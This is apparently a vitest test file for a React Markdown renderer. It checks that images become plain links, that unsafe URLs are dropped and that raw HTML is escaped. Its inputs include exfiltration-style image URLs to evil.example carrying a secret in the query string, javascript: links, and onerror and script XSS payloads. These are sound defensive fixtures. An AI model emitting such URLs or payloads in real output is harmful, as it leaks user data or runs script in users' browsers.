import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { Markdown } from "@/components/markdown";

function render(markdown: string): string {
  return renderToStaticMarkup(createElement(Markdown, null, markdown));
}

describe("Markdown images", () => {
  it("shows an image as a link with its alt text and URL, never as an <img>", () => {
    const html = render("Here: ![the secret](https://evil.example/leak.png?q=s3cret) done.");
    expect(html).not.toContain("<img");
    expect(html).toMatch(
      /<a href="https:\/\/evil\.example\/leak\.png\?q=s3cret" target="_blank" rel="noopener noreferrer nofollow" data-testid="image-link">/,
    );
    expect(html).toContain("the secret");
    expect(html).toContain("(https://evil.example/leak.png?q=s3cret)");
  });

  it("does the same for same-origin, reference-style and linked images", () => {
    const html = render(
      [
        "![inline](/api/v1/conversations?x=1)",
        "",
        "![ref][pic]",
        "",
        "[![inside a link](https://evil.example/a.png)](https://example.com/)",
        "",
        "[pic]: https://evil.example/ref.png",
      ].join("\n"),
    );
    expect(html).not.toContain("<img");
    expect(html).toContain('href="/api/v1/conversations?x=1"');
    expect(html).toContain('href="https://evil.example/ref.png"');
    expect(html).toContain("(https://evil.example/a.png)");
  });

  it("keeps only the text of an image or link whose URL is unsafe", () => {
    const html = render(
      "![pixel](data:image/png;base64,iVBORw0KGgo=) and ![x](javascript:alert(1)) and [click](javascript:window.__pwned=1)",
    );
    expect(html).not.toContain("<img");
    expect(html).not.toContain("javascript:");
    expect(html).not.toContain("data:image");
    expect(html).not.toContain("<a");
    expect(html).toContain("[pixel]");
    expect(html).toContain("click");
  });

  it("shows raw HTML as text", () => {
    const html = render('<img src=x onerror="window.__pwned=1"> <script>window.__pwned=1</script>');
    expect(html).not.toMatch(/<img|<script/);
    expect(html).toContain("&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;");
    expect(html).toContain("&lt;script&gt;window.__pwned=1&lt;/script&gt;");
  });

  it("still renders ordinary links", () => {
    expect(render("[docs](https://example.com/docs)")).toContain(
      '<a target="_blank" rel="noopener noreferrer" href="https://example.com/docs">docs</a>',
    );
  });
});
